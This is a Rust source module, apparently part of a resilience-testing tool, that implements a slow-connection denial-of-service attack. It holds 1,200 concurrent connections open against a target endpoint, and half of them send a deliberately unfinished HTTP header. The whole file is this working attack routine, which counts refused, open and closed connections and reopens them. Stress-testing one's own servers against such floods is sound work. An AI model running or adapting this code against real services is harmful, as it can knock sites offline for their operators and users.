//! Connections that say nothing, and as many that send half a header.

use crate::attack::{connection::Connection, flood::keep_going, kind::Prepared, stage::Stage};

const CONNECTIONS: usize = 1_200;

pub(in crate::attack) async fn prepare(stage: &Stage) -> anyhow::Result<Prepared> {
    let endpoint = stage.endpoint.clone();
    Ok(Prepared::new(async move |until, tally| {
        keep_going(CONNECTIONS, until, |number| {
            let (endpoint, tally) = (endpoint.clone(), tally.clone());
            async move {
                let Ok(mut connection) = Connection::open(&endpoint).await else {
                    tally.count("refused");
                    return;
                };
                if number % 2 == 0 {
                    connection
                        .write(b"GET /api/v1/user/me HTTP/1.1\r\nHost: l", until)
                        .await;
                }
                tally.count("open");
                if connection.is_closed_before(until).await {
                    tally.count("closed");
                    // Nobody opens a new one faster than this.
                    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
                }
            }
        })
        .await;
    }))
}
